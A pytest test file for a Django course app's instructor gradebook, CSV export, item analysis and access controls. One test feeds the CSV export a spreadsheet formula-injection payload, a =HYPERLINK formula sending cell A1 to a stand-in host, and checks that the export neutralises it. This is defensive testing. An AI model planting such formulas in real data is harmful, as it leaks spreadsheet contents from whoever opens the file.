"""The instructors' gradebook, CSV export and item analysis, on a small course
built by hand so that every number can be checked exactly."""

from __future__ import annotations

import csv
import io
import math
from datetime import timedelta

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone

from exercises.models import (
    CodingExercise,
    Lecture,
    Question,
    QuizAttempt,
    RegradeRun,
    Submission,
    Topic,
)
from exercises.services import attempt_submit
from tests.conftest import _user
from tutor.gradebook import Gradebook, GradebookFilter, StudentRow, gradebook_build
from tutor.item_analysis import item_analysis
from tutor.models import MockExam
from tutor.selectors import mastery_by_topic

pytestmark = pytest.mark.django_db


@pytest.fixture
def small_course(db: None) -> dict[str, object]:
    """Two topics: 6.10 with a single-choice and a numeric question and one
    coding exercise; 7.3 with a symbolic question (and an unpublished one,
    which mastery does not count)."""
    six = Lecture.objects.create(number=6, slug="lecture-6", title="CNNs")
    seven = Lecture.objects.create(number=7, slug="lecture-7", title="Words")
    yolo = Topic.objects.create(lecture=six, code="6.10", slug="yolo", title="YOLO")
    cosine = Topic.objects.create(
        lecture=seven, code="7.3", slug="cosine", title="Cosine"
    )
    options = [
        {"text": "IoU below 0.5", "explanation": "no"},
        {"text": "IoU above 0.5", "correct": True, "explanation": "yes"},
        {"text": "Another cell", "explanation": "no"},
    ]
    choice = Question.objects.create(
        topic=yolo, slug="nms-rule", kind="single", prompt="When?",
        spec={"options": options},
    )  # fmt: skip
    numeric = Question.objects.create(
        topic=yolo, slug="iou-half", kind="numeric", prompt="IoU?",
        spec={"answer": 0.5, "tolerance": {"abs": 0.001, "rel": 0.001}},
    )  # fmt: skip
    symbolic = Question.objects.create(
        topic=cosine, slug="double", kind="symbolic", prompt="Twice x?",
        spec={"answer": "2*x", "variables": ["x"]},
    )  # fmt: skip
    Question.objects.create(
        topic=cosine, slug="draft", kind="numeric", prompt="Draft",
        spec={"answer": 1}, is_published=False,
    )  # fmt: skip
    iou = CodingExercise.objects.create(
        topic=yolo, slug="iou", title="IoU", prompt="Write iou.", engine_spec="iou"
    )
    return {
        "yolo": yolo, "cosine": cosine, "choice": choice, "numeric": numeric,
        "symbolic": symbolic, "iou": iou,
    }  # fmt: skip


def answer(user: User, question: Question, **given: object) -> QuizAttempt:
    outcome = attempt_submit(user=user, question=question, answer=given, seed=1)
    assert outcome.attempt is not None, outcome.result.message
    return outcome.attempt


def submission(user: User, exercise: CodingExercise, **fields) -> Submission:
    fields.setdefault("status", "done")
    return Submission.objects.create(user=user, exercise=exercise, source="x", **fields)


def exam(user: User, score: float | None, by_topic: dict[str, float]) -> MockExam:
    now = timezone.now()
    return MockExam.objects.create(
        user=user,
        title="Paper",
        deadline=now + timedelta(minutes=30),
        submitted_at=now if score is not None else None,
        score=score,
        by_topic={
            code: {"title": code, "score": s, "questions": 2}
            for code, s in by_topic.items()
        },
    )


@pytest.fixture
def activity(small_course, student, other_student) -> dict[str, object]:
    """alice: wrong then right on the choice, right on the numeric and the
    symbolic; bob: wrong on the choice, wrong twice on the numeric (the same
    number written two ways). Coding and mock exams as in the asserts."""
    c = small_course
    answer(student, c["choice"], choice="0")
    answer(student, c["choice"], choice="1")
    answer(student, c["numeric"], value="1/2")
    answer(student, c["symbolic"], expression="x + x")
    answer(other_student, c["choice"], choice="2")
    answer(other_student, c["numeric"], value="0,25")
    answer(other_student, c["numeric"], value="0.25")
    submission(student, c["iou"], score=0.4)
    submission(student, c["iou"], score=0.9)
    submission(other_student, c["iou"], score=0.3)
    submission(other_student, c["iou"], status="error")
    exam(student, 0.5, {"6.10": 0.5, "7.3": 1.0})
    exam(student, 0.75, {"6.10": 1.0})
    exam(student, None, {})  # still open: not counted
    return c


def rows_by_name(book: Gradebook) -> dict[str, StudentRow]:
    return {row.student.username: row for row in book.rows}


def test_it_counts_attempts_correct_mastery_best_scores_and_exams(
    activity, student, other_student, instructor
) -> None:
    book = gradebook_build(filters=GradebookFilter())
    assert [t.code for t in book.topics] == ["6.10", "7.3"]
    assert [e.slug for e in book.exercises] == ["iou"]
    rows = rows_by_name(book)
    assert set(rows) == {"alice", "bob"}  # the instructor is not a student
    alice, bob = rows["alice"], rows["bob"]
    assert [(c.attempts, c.correct, c.mastered, c.questions) for c in alice.topics] == [
        (3, 2, 2, 2),
        (1, 1, 1, 1),
    ]
    assert [(c.attempts, c.correct, c.mastered, c.questions) for c in bob.topics] == [
        (3, 0, 0, 2),
        (0, 0, 0, 1),
    ]
    assert alice.best == [0.9] and bob.best == [0.3]
    assert alice.exams.count == 2 and alice.exams.best == 0.75
    assert alice.exams.mean == pytest.approx(0.625)
    assert alice.exams.by_topic == [pytest.approx(0.75), pytest.approx(1.0)]
    assert bob.exams.count == 0 and bob.exams.by_topic == [None, None]


def test_mastery_is_the_number_the_student_sees_on_the_dashboard(
    activity, student, other_student
) -> None:
    book = gradebook_build(filters=GradebookFilter())
    for row in book.rows:
        dashboard = {m.topic.code: m.share for m in mastery_by_topic(user=row.student)}
        mine = {t.code: c.mastery for t, c in zip(book.topics, row.topics, strict=True)}
        assert mine == {code: dashboard[code] for code in mine}
    assert rows_by_name(book)["alice"].topics[0].mastery == 1.0


def test_filters_by_topic_lecture_and_dates(activity, student, other_student) -> None:
    c = activity
    by_topic = gradebook_build(filters=GradebookFilter(topic=c["cosine"]))
    assert [t.code for t in by_topic.topics] == ["7.3"] and by_topic.exercises == []
    by_lecture = gradebook_build(filters=GradebookFilter(lecture=c["yolo"].lecture))
    assert [t.code for t in by_lecture.topics] == ["6.10"]
    # bob's choice answer and his 0.3 submission move to ten days ago.
    ten_days_ago = timezone.now() - timedelta(days=10)
    QuizAttempt.objects.filter(user=other_student, question=c["choice"]).update(
        created_at=ten_days_ago
    )
    Submission.objects.filter(user=other_student, score=0.3).update(
        created_at=ten_days_ago
    )
    today = timezone.localdate()
    recent = rows_by_name(gradebook_build(filters=GradebookFilter(start=today)))
    assert recent["bob"].topics[0].attempts == 2 and recent["bob"].best == [None]
    assert recent["alice"].topics[0].attempts == 3
    old = rows_by_name(
        gradebook_build(filters=GradebookFilter(end=today - timedelta(days=9)))
    )
    assert old["bob"].topics[0].attempts == 1 and old["bob"].best == [0.3]
    assert old["alice"].topics[0].attempts == 0 and old["alice"].exams.count == 0


def table(page: str, table_id: str) -> str:
    start = page.index(f'id="{table_id}"')
    return page[start : page.index("</table>", start)]


def instructor_client(instructor: User) -> Client:
    client = Client()
    client.force_login(instructor)
    return client


def test_the_gradebook_page_shows_the_table_and_filters(
    activity, instructor, student
) -> None:
    client = instructor_client(instructor)
    page = client.get("/instructor/gradebook/").content.decode()
    quiz = table(page, "quiz-table")
    assert "alice" in quiz and "bob" in quiz and "carol" not in quiz
    assert "2/3" in quiz and "100% mastery" in quiz
    assert "90%" in table(page, "coding-table")
    assert "62%" in table(page, "exam-table")  # alice: mean of 0.5 and 0.75
    filtered = client.get(
        "/instructor/gradebook/", {"topic": activity["cosine"].pk}
    ).content.decode()
    assert "7.3" in filtered and ">6.10<" not in filtered
    bad = client.get(
        "/instructor/gradebook/", {"start": "2030-01-02", "end": "2030-01-01"}
    )
    assert (
        bad.status_code == 200
        and "first day comes after the last" in bad.content.decode()
    )
    detail = client.get(
        f"/instructor/gradebook/students/{student.pk}/"
    ).content.decode()
    assert "option 1" in detail and "option 2" in detail  # alice chose 0, then 1
    assert detail.count("/submissions/") == 2 and "When?" in detail
    assert "Paper" in detail and "in progress" in detail
    assert (
        client.get(f"/instructor/gradebook/students/{instructor.pk}/").status_code
        == 404
    )


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_csv_has_one_row_per_student_and_a_column_per_topic_and_exercise(
    activity, instructor
) -> None:
    response = instructor_client(instructor).get(
        "/instructor/gradebook.csv", {"lecture": activity["yolo"].lecture.pk}
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="gradebook-lecture-6-')
    header, *rows = read_csv(response)
    assert header == [
        "username", "first name", "last name", "email",
        "6.10 attempts", "6.10 correct", "6.10 mastery", "iou best score",
        "mock exams", "mock exam mean", "mock exam best", "6.10 mock exam mean",
    ]  # fmt: skip
    assert rows == [
        ["alice", "", "", "alice@example.com", "3", "2", "1.0", "0.9", "2", "0.625", "0.75", "0.75"],
        ["bob", "", "", "bob@example.com", "3", "0", "0.0", "0.3", "0", "", "", ""],
    ]  # fmt: skip


def test_the_csv_neutralises_cells_a_spreadsheet_would_run(
    small_course, instructor
) -> None:
    evil = _user("@evil", "students")
    evil.first_name = '=HYPERLINK("http://x.example/?"&A1,"click")'
    evil.last_name = "+1-2"
    evil.email = "-x@example.com"
    evil.save()
    _, row = read_csv(instructor_client(instructor).get("/instructor/gradebook.csv"))
    assert row[:4] == [
        "'@evil",
        '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        "'+1-2",
        "'-x@example.com",
    ]
    assert row[4] == "0"  # numbers are left as numbers


def test_a_csv_asked_with_a_bad_filter_is_refused(small_course, instructor) -> None:
    response = instructor_client(instructor).get(
        "/instructor/gradebook.csv", {"start": "2030-01-02", "end": "2030-01-01"}
    )
    assert response.status_code == 400
    assert "first day comes after the last" in response.content.decode()


# --- Item analysis ------------------------------------------------------------------


def test_item_analysis_counts_options_wrong_answers_and_first_attempts(
    activity, instructor
) -> None:
    rows = {row.question.slug: row for row in item_analysis(filters=GradebookFilter())}
    choice = rows["nms-rule"]
    assert (choice.attempts, choice.correct, choice.students, choice.first_correct) == (
        3,
        1,
        2,
        0,
    )
    assert [(o.index, o.correct, o.chosen) for o in choice.options] == [
        (0, False, 1),
        (1, True, 1),
        (2, False, 1),
    ]
    numeric = rows["iou-half"]
    assert numeric.wrong_answers == [("0.25", 2)]  # "0,25" and "0.25" are one
    assert (numeric.students, numeric.first_correct) == (2, 1)
    page = instructor_client(instructor).get("/instructor/items/").content.decode()
    assert "point-biserial" in page and "IoU below 0.5" in page and "0.25" in page


@pytest.fixture
def four_students(small_course) -> list[User]:
    return [_user(name, "students") for name in ("s1", "s2", "s3", "s4")]


def attempt(user: User, question: Question, correct: bool) -> None:
    QuizAttempt.objects.create(
        user=user, question=question, seed=0, answer={"value": "?"},
        is_correct=correct, score=float(correct),
    )  # fmt: skip


def test_discrimination_is_the_point_biserial_correlation_with_the_rest_score(
    small_course, four_students, instructor
) -> None:
    """First attempts (R right, W wrong), q1 = choice, q2 = numeric, q3 = symbolic:

        s1: R R W   (2 of 3 right)      s3: W W R   (1 of 3)
        s2: R R R   (3 of 3)            s4: W R W   (1 of 3)

    q1: item (1, 1, 0, 0), rest score (right elsewhere / 2) (.5, 1, .5, .5):
        deviations (.5, .5, −.5, −.5) and (−.125, .375, −.125, −.125),
        r = .25 / √(1 · .1875) = 1/√3.
    q2: item (1, 1, 0, 1), rest (.5, 1, .5, 0): covariance 0, so r = 0.
    q3: item (0, 1, 1, 0), rest (1, 1, 0, .5): deviations (−.5, .5, .5, −.5) and
        (.375, .375, −.625, −.125), r = −.25 / √(1 · 11/16) = −1/√11.
    s4's later right answer to q1 is not a first attempt and changes nothing.
    """
    s1, s2, s3, s4 = four_students
    q1, q2, q3 = (small_course[k] for k in ("choice", "numeric", "symbolic"))
    table = {s1: "RRW", s2: "RRR", s3: "WWR", s4: "WRW"}
    for user, marks in table.items():
        for question, mark in zip((q1, q2, q3), marks, strict=True):
            attempt(user, question, mark == "R")
    attempt(s4, q1, True)
    rows = {row.question.slug: row for row in item_analysis(filters=GradebookFilter())}
    assert rows["nms-rule"].discrimination == pytest.approx(1 / math.sqrt(3))
    assert rows["iou-half"].discrimination == pytest.approx(0.0, abs=1e-12)
    assert rows["double"].discrimination == pytest.approx(-1 / math.sqrt(11))
    assert rows["double"].flags == ["negative discrimination"]
    assert rows["nms-rule"].flags == [] and rows["iou-half"].flags == []
    ordered = [row.question.slug for row in item_analysis(filters=GradebookFilter())]
    assert ordered == ["double", "iou-half", "nms-rule"]  # lowest first
    by_share = item_analysis(filters=GradebookFilter(), sort="share")
    assert by_share[0].question.slug == "double"  # 2 of 4 right
    page = instructor_client(instructor).get("/instructor/items/").content.decode()
    assert "negative discrimination" in page and "-0.30" in page and "0.58" in page


def test_a_question_nobody_gets_right_is_flagged(small_course, four_students) -> None:
    for user in four_students[:3]:
        attempt(user, small_course["numeric"], False)
    (row,) = item_analysis(filters=GradebookFilter())
    assert row.flags == ["nobody right"] and row.discrimination is None


def test_multiple_choice_counts_every_option_ticked(small_course, student) -> None:
    options = [{"text": t, "correct": t != "b"} for t in ("a", "b", "c")]
    question = Question.objects.create(
        topic=small_course["yolo"], slug="pick", kind="multiple", prompt="Pick.",
        spec={"options": options},
    )  # fmt: skip
    answer(student, question, choices=["0", "2"])
    answer(student, question, choices=["1", "2"])
    (row,) = item_analysis(filters=GradebookFilter())
    assert [(o.text, o.correct, o.chosen) for o in row.options] == [
        ("a", True, 1),
        ("b", False, 1),
        ("c", True, 2),
    ]
    assert (row.attempts, row.correct) == (2, 1)


def test_coding_exercises_count_verdicts_and_named_mistakes(
    small_course, student, other_student, instructor
) -> None:
    iou = small_course["iou"]
    mistake = {"id": "iou-no-clamp", "title": "No clamp at zero", "explanation": "…"}
    submission(
        student, iou, score=0.5, report={"verdict": "failed", "mistake": mistake}
    )
    submission(
        other_student, iou, score=0.5, report={"verdict": "failed", "mistake": mistake}
    )
    submission(student, iou, score=1.0, report={"verdict": "passed", "mistake": None})
    submission(other_student, iou, status="error")
    submission(
        instructor, iou, score=0.0, report={"verdict": "failed", "mistake": mistake}
    )
    page = instructor_client(instructor).get("/instructor/items/").content.decode()
    from tutor.item_analysis import exercise_analysis

    (row,) = exercise_analysis(filters=GradebookFilter())
    assert (row.submissions, row.students) == (4, 2)
    assert dict(row.verdicts) == {"failed": 2, "passed": 1, "error": 1}
    assert row.mistakes == [("iou-no-clamp", "No clamp at zero", 2)]
    assert "No clamp at zero" in page


# --- Who may see these pages ----------------------------------------------------------

GET_URLS = [
    "/instructor/",
    "/instructor/gradebook/",
    "/instructor/gradebook.csv",
    "/instructor/gradebook/students/{student}/",
    "/instructor/items/",
    "/instructor/regrade/",
    "/instructor/regrade/runs/{run}/",
    "/instructor/regrade/runs/{run}/progress",
]
POST_URLS = [
    "/instructor/regrade/start",
    "/instructor/regrade/runs/{run}/apply",
    "/instructor/regrade/runs/{run}/resume",
]


@pytest.fixture
def urls(student, instructor) -> dict[str, list[str]]:
    run = RegradeRun.objects.create(created_by=instructor, submission_ids=[])
    fill = {"student": student.pk, "run": run.pk}
    return {
        "get": [url.format(**fill) for url in GET_URLS],
        "post": [url.format(**fill) for url in POST_URLS],
    }


def test_a_student_gets_403_on_every_instructor_url(
    student_client: Client, urls
) -> None:
    for url in urls["get"]:
        response = student_client.get(url)
        assert response.status_code == 403, url
        assert "This page is for instructors" in response.content.decode()
    for url in urls["post"]:
        assert student_client.post(url).status_code == 403, url
    assert RegradeRun.objects.count() == 1


def test_an_anonymous_visitor_is_sent_to_sign_in(client: Client, urls) -> None:
    for url in urls["get"] + urls["post"]:
        response = client.get(url) if url in urls["get"] else client.post(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith("/accounts/login/?next="), url


def test_an_instructor_reaches_the_landing_page_with_its_links(instructor) -> None:
    page = instructor_client(instructor).get("/instructor/").content.decode()
    for link in (
        "/instructor/gradebook/",
        "/instructor/items/",
        "/instructor/regrade/",
        "/admin/exercises/auditentry/",
        "/admin/",
    ):
        assert f'href="{link}' in page
